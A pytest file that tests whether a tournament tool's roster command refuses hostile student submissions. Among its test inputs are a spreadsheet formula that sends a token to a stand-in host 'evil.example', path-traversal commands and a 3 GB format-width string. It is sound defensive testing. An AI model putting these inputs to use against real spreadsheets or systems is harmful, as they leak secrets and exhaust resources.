"""The roster against hostile input: submissions holding devices, pipes, sockets, hard links or
paths out of their folder; command templates that would allocate without bound; names that look
alike; CSV files that break the parser or would run as spreadsheet formulas. Each refusal is one
sentence of ``callbreak-arena roster ...``, and nothing is left behind."""

from __future__ import annotations

import json
import os
import re
import resource
import shlex
import signal
import socket
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest

from arena.errors import ConfigError
from arena.event.setup.config import parse_config
from arena.event.setup.roster import ROSTER_FILE, Roster, read_roster
from arena.event.setup.submissions import SUBMISSION_FILES
from tests.helpers.runs import ROOT

ARENA = Path(sys.executable).with_name("callbreak-arena")
RANDOM_BOT = ROOT / "sample_bots" / "random_bot.py"
HUGE = "{python:>3000000000}"
"""A format width that would have the launcher build a string of 3 GB."""


def roster(folder: Path, *args: str, limit_file_mb: int = 0) -> subprocess.CompletedProcess[str]:
    """``callbreak-arena roster ARGS --roster folder/roster.toml``, as a teacher runs it; with
    ``limit_file_mb``, no file it writes may grow past that (a copy that would fill the disk fails)."""

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit_file_mb << 20, limit_file_mb << 20))

    return subprocess.run([str(ARENA), "roster", *args, "--roster", str(folder / ROSTER_FILE)], cwd=folder,
                          capture_output=True, text=True, timeout=300, check=False,
                          preexec_fn=limit if limit_file_mb else None)


def refusal(done: subprocess.CompletedProcess[str], status: int = 2) -> str:
    """The one-line error of a refused command, after checking it is one sentence, not a traceback."""
    assert done.returncode == status, (done.returncode, done.stdout, done.stderr)
    assert done.stderr.startswith("callbreak-arena: error: ") and done.stderr.count("\n") == 1, done.stderr
    assert "[(" not in done.stderr and "Traceback" not in done.stderr, done.stderr
    return done.stderr


def class_with(folder: Path, *names: str) -> None:
    for name in names:
        assert roster(folder, "add", name).returncode == 0


def bot_folder(folder: Path, manifest: str = "", files: dict[str, str] | None = None) -> Path:
    """A student's bot folder: ``bot.py``, or ``bot.json`` holding ``manifest``, and ``files``."""
    folder.mkdir(parents=True)
    if manifest:
        (folder / "bot.json").write_text(manifest, encoding="utf-8")
    else:
        (folder / "bot.py").write_text(RANDOM_BOT.read_text(encoding="utf-8"), encoding="utf-8")
    for name, text in (files or {}).items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def nothing_left(tmp_path: Path) -> None:
    """No submission and no partial copy of one (``.alice.incoming``)."""
    submissions = tmp_path / "submissions"
    assert not submissions.exists() or not any(submissions.iterdir()), sorted(p.name for p in submissions.iterdir())


# -- what a submitted folder may hold ---------------------------------------------------------------


def _mknod(path: Path, mode: int, major: int, minor: int) -> None:
    try:
        os.mknod(path, mode | 0o600, os.makedev(major, minor))
    except OSError as err:
        pytest.skip(f"cannot make a device node here: {err.strerror}")


def _bind(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))  # the socket file stays when the socket is closed


def test_a_device_that_never_ends_is_refused_by_name_before_anything_is_copied(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in")
    _mknod(source / "zero", 0o020000, 1, 5)  # /dev/zero's numbers: a read never ends
    # Limited to 256 MiB a file: a copy that reads the device fails there rather than filling the disk.
    why = refusal(roster(tmp_path, "submit", "alice", str(source), limit_file_mb=256))
    assert f"{source / 'zero'} is a device" in why and "only files, folders and links" in why
    nothing_left(tmp_path)


@pytest.mark.parametrize(("kind", "make"), [
    ("a named pipe", lambda path: os.mkfifo(path)),
    ("a socket", lambda path: _bind(path)),
    ("a device", lambda path: _mknod(path, 0o060000, 7, 0)),  # a block device (a loop device's numbers)
])
def test_pipes_sockets_and_devices_are_refused_in_a_sentence(tmp_path: Path, kind: str,
                                                             make: Callable[[Path], None]) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in")
    (source / "lib").mkdir()
    make(source / "lib" / "odd")
    why = refusal(roster(tmp_path, "submit", "alice", str(source)))
    assert f"{source / 'lib' / 'odd'} is {kind}" in why
    nothing_left(tmp_path)


def test_a_hard_link_to_a_file_outside_is_refused(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    secret = tmp_path / "teacher-notes.txt"
    secret.write_text("the answers\n", encoding="utf-8")
    source = bot_folder(tmp_path / "handed-in")
    os.link(secret, source / "notes.txt")
    why = refusal(roster(tmp_path, "submit", "alice", str(source)))
    assert f"{source / 'notes.txt'} has other names" in why and "hard link" in why
    nothing_left(tmp_path)


def test_a_link_that_leaves_the_folder_and_comes_back_is_refused(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in")
    # It names a file of the folder here, but in submissions/alice/ it would name submissions/handed-in/bot.py.
    os.symlink("../handed-in/bot.py", source / "again.py")
    assert "outside the submission" in refusal(roster(tmp_path, "submit", "alice", str(source)))
    nothing_left(tmp_path)


def test_every_file_counts_toward_the_limit(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in")
    many = source / "many"
    many.mkdir()
    for number in range(SUBMISSION_FILES):
        (many / str(number)).touch()
    why = refusal(roster(tmp_path, "submit", "alice", str(source)))
    assert f"a submission may hold {SUBMISSION_FILES} files" in why
    nothing_left(tmp_path)


def test_a_copy_that_fails_halfway_says_so_in_a_sentence_and_leaves_nothing(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in")
    (source / "weights.bin").write_bytes(b"\0" * (2 << 20))
    why = refusal(roster(tmp_path, "submit", "alice", str(source), limit_file_mb=1), status=1)
    assert str(source / "weights.bin") in why and "File too large" in why
    nothing_left(tmp_path)


# -- command templates ------------------------------------------------------------------------------


@pytest.mark.parametrize(("part", "why"), [
    (HUGE, "takes no format"),
    ("{python!r}", "takes no format"),
    ("{python.__class__}", "a bare name"),
    ("{python[0]}", "a bare name"),
    ("{}", "an empty placeholder"),
    ("--x}", "a lone { or }"),
    ("{adress}", "did you mean {address}?"),
])
def test_a_command_template_the_launcher_cannot_fill_safely_is_refused_at_load(part: str, why: str) -> None:
    text = ('[tournament]\nname = "t"\n\n[[bots]]\nname = "a"\npython = "sample_bots.random_bot:RandomBot"\n\n'
            f'[[bots]]\nname = "b"\ncommand = ["{{python}}", "bot.py", "--arena", "{{address}}", {json.dumps(part)}]\n')
    with pytest.raises(ConfigError, match=re.escape(f"bot 'b': the part {part!r}")) as caught:
        parse_config(text)
    assert why in str(caught.value)


def test_a_stdio_bot_with_a_huge_format_width_is_refused_at_load(tmp_path: Path) -> None:
    text = ('[tournament]\nname = "t"\n\n[[bots]]\nname = "a"\npython = "sample_bots.random_bot:RandomBot"\n\n'
            f'[[bots]]\nname = "b"\nstdio = ["{HUGE}", "bot.py"]\n')
    with pytest.raises(ConfigError, match="takes no format"):
        parse_config(text)


def test_a_huge_format_width_in_bot_json_is_refused_at_submit(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in", f'{{"kind": "stdio", "command": ["{HUGE}", "bot.py"]}}',
                        {"bot.py": ""})
    why = refusal(roster(tmp_path, "submit", "alice", str(source)))
    assert HUGE in why and "takes no format" in why
    nothing_left(tmp_path)


def test_an_unknown_placeholder_in_bot_json_gets_a_hint(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in",
                        '{"kind": "command", "command": "node bot.js --arena {adress}"}', {"bot.js": "//"})
    assert "did you mean {address}?" in refusal(roster(tmp_path, "submit", "alice", str(source)))


def test_a_class_folder_with_braces_in_its_name_still_fills_in(tmp_path: Path) -> None:
    folder = tmp_path / "class {2026}"
    folder.mkdir()
    students = Roster(folder / ROSTER_FILE)
    for name in ("alice", "bob", "carol", "dave"):
        students.add(name)
    students.save()
    students.submit("alice", RANDOM_BOT)
    config = parse_config('[tournament]\nroster = "roster.toml"\n', folder / "c.toml")
    values = {"python": sys.executable, "address": "unix:/run/x", "name": "alice", "seed": "0"}
    filled = [part.format(**values) for part in config.bot("alice").setup.argv]  # as the launcher fills it in
    assert filled[1] == str(folder / "submissions" / "alice" / "bot.py")


# -- paths out of the folder, and the listing -------------------------------------------------------


@pytest.mark.parametrize("command", ['"python ../../secret.py"', '["python", "lib/../../secret.py"]',
                                    '"python --config=../x bot.py"', '"/usr/bin/python3 bot.py"'])
def test_a_command_naming_paths_outside_the_folder_is_refused(tmp_path: Path, command: str) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in", f'{{"kind": "stdio", "command": {command}}}', {"bot.py": ""})
    why = refusal(roster(tmp_path, "submit", "alice", str(source)))
    assert "outside the submission" in why
    nothing_left(tmp_path)


def test_the_listing_shows_a_path_out_of_the_folder_that_was_submitted_earlier(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    (tmp_path / "x.js").write_text("//", encoding="utf-8")
    earlier = tmp_path / "submissions" / "alice"  # as an earlier version copied it
    bot_folder(earlier, '{"kind": "command", "command": "node ../../x.js --arena {address}"}')
    listing = roster(tmp_path, "list")
    assert listing.returncode == 0, listing.stderr
    assert "cannot be started" in listing.stdout and "../../x.js" in listing.stdout


def test_the_listing_shows_each_command_as_it_will_run(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    source = bot_folder(tmp_path / "handed-in",
                        '{"kind": "stdio", "command": ["{python}", "my bot.py", "--name", "{name}"]}',
                        {"my bot.py": ""})
    assert roster(tmp_path, "submit", "alice", str(source)).returncode == 0
    listing = roster(tmp_path, "list")
    assert listing.returncode == 0, listing.stderr
    assert "'my bot.py' --name alice" in listing.stdout and "{python}" not in listing.stdout
    submission = read_roster(tmp_path / ROSTER_FILE).submission("alice")
    assert submission is not None
    assert shlex.join([sys.executable, "my bot.py", "--name", "alice"]) in submission.describe()


# -- names ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["alice ", " alice", "alice\u00a0"])
def test_a_name_with_spaces_around_it_is_refused_not_trimmed(tmp_path: Path, name: str) -> None:
    why = refusal(roster(tmp_path, "add", name))
    assert "spaces before or after it" in why
    assert not (tmp_path / ROSTER_FILE).exists()


def test_names_differing_only_in_case_are_one_name(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    assert "already on the roster as 'alice'" in refusal(roster(tmp_path, "add", "Alice"))
    students = tmp_path / "students.csv"
    students.write_text("bob\nBOB\n", encoding="utf-8")
    assert "line 2: 'BOB' is 'bob' of line 1" in refusal(roster(tmp_path, "import", str(students)))
    (tmp_path / ROSTER_FILE).write_text('[[students]]\nname = "carol"\n\n[[students]]\nname = "Carol"\n',
                                        encoding="utf-8")
    with pytest.raises(ConfigError, match="names 'carol' twice"):
        read_roster(tmp_path / ROSTER_FILE)


def test_a_submission_folder_differing_only_in_case_is_refused(tmp_path: Path) -> None:
    class_with(tmp_path, "alice")
    bot_folder(tmp_path / "submissions" / "Alice")  # left by a student taken off the roster
    why = refusal(roster(tmp_path, "submit", "alice", str(RANDOM_BOT)))
    assert "'Alice'" in why and "only in case" in why
    assert sorted(p.name for p in (tmp_path / "submissions").iterdir()) == ["Alice"]


def test_names_and_display_names_are_normalised(tmp_path: Path) -> None:
    class_with(tmp_path, "\uff41lice")  # a full-width a: NFKC makes it the a of ASCII
    assert "already on the roster" in refusal(roster(tmp_path, "add", "alice"))
    decomposed = "Zoe\u0308 Ortiz"  # e and a combining diaeresis, as some keyboards type it
    assert roster(tmp_path, "add", "zoe", "--display", decomposed).returncode == 0
    kept = {s.name: s for s in read_roster(tmp_path / ROSTER_FILE).students}
    assert list(kept) == ["alice", "zoe"]
    assert kept["zoe"].display == unicodedata.normalize("NFC", decomposed) == "Zo\u00eb Ortiz"


# -- CSV in and out ---------------------------------------------------------------------------------


def test_an_enormous_csv_field_is_refused_naming_its_line(tmp_path: Path) -> None:
    students = tmp_path / "students.csv"
    students.write_text("ada,Ada\nbob," + "x" * (200 << 10) + "\n", encoding="utf-8")
    why = refusal(roster(tmp_path, "import", str(students)))
    assert "line 2" in why
    assert not (tmp_path / ROSTER_FILE).exists()


def test_a_display_name_over_two_lines_is_refused_not_joined(tmp_path: Path) -> None:
    students = tmp_path / "students.csv"
    students.write_text('ada,Ada\nalice,"Alice\nLiddell"\n', encoding="utf-8")
    why = refusal(roster(tmp_path, "import", str(students)))
    assert "line 2" in why and "over two lines" in why
    assert not (tmp_path / ROSTER_FILE).exists()


def test_tokens_csv_cannot_run_as_a_formula_and_ends_lines_with_lf(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&C2,"see your token")'
    students = tmp_path / "students.csv"
    students.write_text(f'ada,"{formula.replace(chr(34), chr(34) * 2)}"\nbob,+1 Bob\ncarol,@carol\ndan,-dan\n',
                        encoding="utf-8")
    tokens = tmp_path / "tokens.csv"
    done = roster(tmp_path, "import", str(students), "--tokens-out", str(tokens))
    assert done.returncode == 0, done.stderr
    data = tokens.read_bytes()
    assert b"\r" not in data
    cells = [line.split(",", 1)[1].rsplit(",", 1)[0] for line in data.decode().splitlines()[1:]]
    assert cells == ['"\'' + formula.replace('"', '""') + '"', "'+1 Bob", "'@carol", "'-dan"]
    kept = {s.name: s.display for s in read_roster(tmp_path / ROSTER_FILE).students}
    assert kept["ada"] == formula  # the roster keeps the name as given; only the spreadsheet's copy is escaped


def test_tokens_printed_instead_of_written_are_escaped_the_same_way(tmp_path: Path) -> None:
    students = tmp_path / "students.csv"
    students.write_text("bob,+1 Bob\ncarol,@carol\n", encoding="utf-8")
    done = roster(tmp_path, "import", str(students))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == "name,display,token"
    assert [line.rsplit(",", 1)[0] for line in lines[1:]] == ["bob,'+1 Bob", "carol,'@carol"]
